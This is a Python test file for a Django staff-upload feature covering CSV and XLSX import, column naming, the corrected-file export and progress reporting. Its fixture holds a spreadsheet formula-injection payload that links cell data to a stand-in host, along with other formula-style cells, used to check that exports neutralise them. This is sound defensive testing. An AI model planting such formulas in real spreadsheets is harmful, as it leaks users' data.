"""The file that comes back for mending, and workbooks from their upload to their storing."""

import csv
import io
import re
from typing import Any
from uuid import UUID

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from factories import files, staff_files, workbooks
from factories.world import World
from oneworkforce.ground import jobs
from oneworkforce.workforce.domain import items
from oneworkforce.workforce.models import Post, RememberedHeading, StaffRecord, StaffUpload

pytestmark = pytest.mark.undone
EVIL = '=HYPERLINK("http://e.example/"&B2)'


def text_of(response: Any) -> str:
    return " ".join(re.sub(r"<[^>]+>", " ", response.content.decode()).split())


def said(world: World, upload: UUID) -> str:
    return text_of(world.client("mona").get(reverse("staff_upload", args=[upload])))


def mend(world: World, upload: UUID) -> Any:
    response = world.client("mona").post(reverse("staff_upload_mend", args=[upload]))
    assert response.status_code == 200
    return response


def rows_of(world: World, upload: UUID) -> list[list[str]]:
    return list(csv.reader(io.StringIO(mend(world, upload).content.decode("utf-8-sig"))))


def sheet_of(content: bytes) -> list[list[str]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    assert all(cell.data_type in {"s", "n"} and (cell.value is None or isinstance(cell.value, str))
               for row in sheet.iter_rows() for cell in row)  # fmt: skip
    return [[str(cell or "") for cell in row] for row in sheet.iter_rows(values_only=True)]


def named(world: World, upload: UUID, chosen: list[str]) -> None:
    columns = {f"column-{at}": item for at, item in enumerate(chosen)}
    where = reverse("staff_upload_columns", args=[upload])
    assert world.client("mona").post(where, columns).status_code == 302
    staff_files.work()


def spoiled(kind: str) -> bytes:
    """Return rows whose heading is a formula, a staff number that is none, a comma in a name, a cell too many."""
    lines = [
        ("post_reference", "role", EVIL, "name"),
        ("P1", "Teacher", "x" * 41, "Smith, Jo"),
        ("P2", "Teacher", "S2", '"Ann" =1'),
        ("P3", "Teacher", "S3", "@Bay", "=1+1"),
    ]
    if kind == "xlsx":
        return workbooks.written(
            {f"{'ABCDE'[at]}{row}": cell for row, line in enumerate(lines, 1) for at, cell in enumerate(line)}
        )
    made = io.StringIO(newline="")
    csv.writer(made).writerows(lines)
    return made.getvalue().encode()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_cell_of_the_file_to_mend_is_a_formula_and_each_comes_back_whole(world: World, kind: str) -> None:
    upload = staff_files.checked(world, spoiled(kind), kind=kind)
    named(world, upload, ["reference", "role", "number", "name"])
    response = mend(world, upload)
    assert response.headers["Content-Disposition"].endswith(f'.{kind}"')
    found = sheet_of(response.content) if kind == "xlsx" else rows_of(world, upload)
    assert found[0] == ["what to mend", "post_reference", "role", "'" + EVIL, "name", *[""] * (kind == "xlsx")]
    assert found[1][0].startswith("'=HYPERLINK(")
    assert "The staff number cannot be one. It holds text of 41 characters." in found[1][0]
    assert found[1][4] == "Smith, Jo"
    assert found[2][:5] == ["", "P2", "Teacher", "S2", '"Ann" =1']
    assert found[3][0].startswith("Row 4: The row has more or fewer cells than there are headings.")
    assert found[3][1:6] == ["P3", "Teacher", "S3", "'@Bay", "'=1+1"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in found for cell in row)


def test_a_workbook_with_other_headings_is_named_mended_and_stored(world: World) -> None:
    head = ("Position no", "Job", "Payroll", "Who", "Begins")
    rows = [("P1", "Teacher", 1042, "Smith, Jo", "2019-09-01"), ("P2", "Techer", "00043", "Ben Bay", "01/09/2021")]
    client = world.client("mona")
    content = files.workbook(head, *rows, sheets=3)
    client.post(reverse("staff_upload_add"), {"file": SimpleUploadedFile("staff.xlsx", content)})
    staff_files.work()
    with world.reading():
        upload = StaffUpload.objects.get().pk
    assert staff_files.row(world, upload).state == "mapping"
    sheets = "Of its 3 sheets “Sheet1” was read, the first that has cells; the others were not."
    assert sheets in said(world, upload)
    named(world, upload, ["reference", "role", "number", "name", "started_on"])
    with world.reading():
        assert set(RememberedHeading.objects.values_list("heading", flat=True)) == {
            "position no", "job", "payroll", "who", "begins",
        }  # fmt: skip
    shown = said(world, upload)
    assert f"Only one sheet of the workbook was read. {sheets} If another one holds posts" in shown
    assert "Store 1 row, keep the rest to mend" in shown
    client.post(reverse("staff_upload_take", args=[upload]))
    staff_files.work()
    again = sheet_of(mend(world, upload).content)
    assert again[0] == ["what to mend", *head]
    assert again[1][1:] == ["P2", "Techer", "00043", "Ben Bay", "01/09/2021"]
    assert len(again) == 2
    again[1][2] = "Teacher"
    second = staff_files.stored(world, files.workbook(*map(tuple, again)), kind="xlsx")
    assert staff_files.row(world, second).state == "stored"
    with world.reading():
        assert sorted(Post.objects.values_list("reference", "person__name", "started_on__year")) == [
            ("P1", "Smith, Jo", 2019),
            ("P2", "Ben Bay", 2021),
        ]
        assert set(StaffRecord.objects.values_list("number", flat=True)) == {"1042", "00043"}


def test_a_file_without_headings_leaves_nothing_of_its_first_row(world: World) -> None:
    upload = staff_files.checked(world, "Smith,P1,Teacher,12/03/1980,smith\nJones,P2,Teacher,1/1/1990,x\n")
    row = staff_files.row(world, upload)
    assert row.notes == ["Columns 1, 5: They have the same heading. Give each column a heading of its own."]
    assert row.headings == []
    lines = "P1,Teacher,12/03/1980,ada@example.org,4711\nP2,Teacher,1/1/1990,b@example.org,4712\n"
    other = staff_files.checked(world, lines)
    named(world, other, ["reference", "role", "started_on", "email", "number"])
    with world.reading():
        assert set(RememberedHeading.objects.values_list("heading", flat=True)) == {"p1", "teacher"}


def test_no_personal_value_is_kept_with_what_was_found(world: World) -> None:
    personal = [item for item in items.all_items().values() if item.personal]
    head = ",".join(["post_reference", "role", "staff_number", *(item.column for item in personal)])
    upload = staff_files.checked(world, f"{head}\nP1,Teacher,S1,{','.join(['40.75'] * len(personal))}\n")
    told = staff_files.row(world, upload).told
    assert {column for _, column, *_ in told} == {item.column for item in personal}
    assert "40.75" not in str(told)
    assert "40.75" not in said(world, upload)


def test_a_large_file_says_how_far_it_is_and_then_its_counts(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    lines = (f"P{at},{'Teacher' if at % 10 else 'Techer'},S{at}\n" for at in range(1, 5001))
    upload = staff_files.received(world, "post_reference,role,staff_number\n" + "".join(lines))
    told = jobs.Running.progress
    seen: list[str] = []

    def progress(job: jobs.Running, done: int, total: int | None, words: str) -> None:
        told(job, done, total, words)
        seen.append(said(world, upload))

    monkeypatch.setattr(jobs.Running, "progress", progress)
    staff_files.work()
    steps = ("Reading the file", "Checking the rows", "Comparing with what is stored", "Writing what to mend")
    for words, page in zip(steps, seen, strict=False):
        assert words in page
        assert "You can leave this page: the work goes on." in page
    counts = said(world, upload)
    for part in ("Rows read 5,000", "New posts 4,500", "Rows to mend 500", "and 480 more", "Store 4,500 rows"):
        assert part in counts
